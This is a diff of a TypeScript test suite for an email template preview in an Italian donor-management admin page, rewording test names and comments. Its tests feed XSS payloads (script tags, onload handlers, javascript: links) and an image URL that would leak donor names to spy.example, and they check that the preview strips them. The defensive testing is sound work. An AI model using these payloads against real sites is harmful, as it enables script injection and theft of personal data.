@@ -10,7 +10,7 @@ const donor = (_id: string, firstName: string, lastName: string) => ({ _id, firs
 const DONORS = [donor("d1", HOSTILE, "Abate"), donor("d2", "Massimiliano Ferdinando Giovanni Battista", "Bo")];
 const donors = () => Response.json({ success: true, donors: DONORS, total: DONORS.length, skip: 0, limit: 50 });
 
-/** @param template what its server says of it; as the mock has it when missing */
+/** @param template the template in the response; the mock's when missing */
 async function open({ template, ...options }: RenderOptions & { template?: object } = {}) {
   scene = await renderPage("admin", "/app/emails-template/t1", {
     width: 1200,
@@ -29,7 +29,7 @@ const frame = (device: string) =>
 const body = (device: string) => frame(device)?.contentDocument?.body;
 const page = () => scene.text();
 
-it("a mail is shown as its receiver gets it, and a hostile name is nothing but a name", async () => {
+it("the preview fills in a donor, and markup in a name stays text", async () => {
   await open();
   await expect.poll(() => body("Computer")?.querySelector("h1")?.textContent).toBe(`Ti aspettiamo, ${HOSTILE}`);
   expect(body("Computer")?.querySelector("img, script, style, [onerror], a[href]")).toBeNull();
@@ -43,7 +43,7 @@ it("a mail is shown as its receiver gets it, and a hostile name is nothing but a
   await expect.poll(() => body("Computer")?.textContent).toContain(HOSTILE);
 });
 
-it("it has its own look: styles in place, the rules for a phone, the colours of the dark", async () => {
+it("the preview applies inline styles, the rules for phones, and the dark colour scheme", async () => {
   await open();
   const look = (device: string) => {
     const heading = body(device)?.querySelector("h1");
@@ -56,12 +56,12 @@ it("it has its own look: styles in place, the rules for a phone, the colours of 
   expect([cell("Computer"), cell("Telefono")]).toEqual(["40px", "20px"]);
   await scene.press("section[aria-label=Computer] label", "Scuro");
   await expect.poll(() => look("Computer")?.color).toBe("rgb(244, 239, 232)");
-  // nothing is cut: a part of a pixel is a whole one
+  // fractions of a pixel are rounded up, so that nothing is cut off
   const tall = () => body("Computer")?.firstElementChild?.getBoundingClientRect().height ?? 0;
   await expect.poll(() => frame("Computer")?.clientHeight).toBe(Math.ceil(tall()));
 });
 
-it("markup of others is shown without what runs, asks or leads elsewhere", async () => {
+it("foreign markup is shown without scripts, event handlers, requests and links", async () => {
   const html = `<body bgcolor="#eeeeee" onload="parent.bad=1"><script>parent.bad=1</script><p style="color:rgb(1,2,3)" onclick="x()">Ciao {{firstName}}
     <a href="javascript:alert(1)">qui</a><img src="javascript:alert(1)" alt="Logo"><iframe src="https://a.example"></iframe></p><svg onload="x()"><text>no</text></svg>`;
   await open({ template: { _id: "t1", name: "Di altri", subject: "Ciao", html } });
@@ -78,16 +78,16 @@ it("markup of others is shown without what runs, asks or leads elsewhere", async
 it.each([
   ["newer", { version: 9, blocks: [] }, "scritta con una versione più nuova"],
   ["broken", { version: 1, blocks: [{}] }, "non viene dal nostro editor"],
-])("of a document that is %s the mail can still be read", async (_, document, said) => {
+])("the mail of a document that is %s can still be read", async (_, document, message) => {
   await open({
     template: { _id: "t1", name: "A", subject: "Ciao", html: "<p>Ci vediamo</p>", text: "Ci vediamo", document },
   });
-  expect(page()).toContain(said);
+  expect(page()).toContain(message);
   expect(page()).not.toContain("Prima di inviare");
   await expect.poll(() => body("Computer")?.textContent).toBe("Ci vediamo");
 });
 
-it("a mail of others without a ground is seen in the dark, too, and its subject can be changed", async () => {
+it("a foreign mail without a background is readable in the dark scheme, and its subject can be changed", async () => {
   let written: unknown;
   const template = { _id: "t1", name: "Di altri", subject: "Ciao", html: "<p>Ci vediamo</p>" };
   await open({
@@ -116,13 +116,13 @@ it("a mail of others without a ground is seen in the dark, too, and its subject 
   await expect.poll(() => scene.shadow.querySelector("dd input")).toBeNull();
 });
 
-it("what can't be filled in is shown as it was written", async () => {
+it("a template that can't be filled in is shown unfilled", async () => {
   await open({ template: { _id: "t1", name: "A", subject: "Ciao {{#firstName}", html: "<p>Ciao {{#firstName}</p>" } });
   expect(page()).toContain("contiene un campo scritto male");
   expect(body("Computer")?.textContent).toBe("Ciao {{#firstName}");
 });
 
-it("what is to be mended stands first among what is looked at before sending", async () => {
+it("failed checks are first in the list of checks", async () => {
   const document = {
     version: 1,
     subject: [],
@@ -136,7 +136,7 @@ it("what is to be mended stands first among what is looked at before sending", a
   expect(lines.slice(0, 2).map((line) => line.split(":")[0])).toEqual(["Impedisce l’invio", "Impedisce l’invio"]);
 });
 
-it("a test goes to oneself; a server that sends none offers none", async () => {
+it("a test mail goes to the user; without sending on the server there is no test mail", async () => {
   await open();
   await scene.press("button", "Invia una prova");
   await expect.poll(page).toContain("Prova inviata a admin@gds.example");
@@ -146,7 +146,7 @@ it("a test goes to oneself; a server that sends none offers none", async () => {
   expect(page()).not.toContain("Invia una prova");
 });
 
-it("a template of others asks nobody's server for what is known of a donor, and nothing of the host page", async () => {
+it("a foreign template can't send donor data to other servers, nor request pages of the host", async () => {
   const asks = 'src="https://spy.example/a.png?n={{lastName}}"';
   const css = "td { background: url(/logout) } p { background: u\\72l(/logout) }";
   const html = `<style>${css}</style><style media="print">p { color: red }</style><p style="background-image:url('/out')">Ciao</p><img ${asks} alt="Spia"><img src="https://ok.example/{{cardNumber}}.png" alt="Due">`;
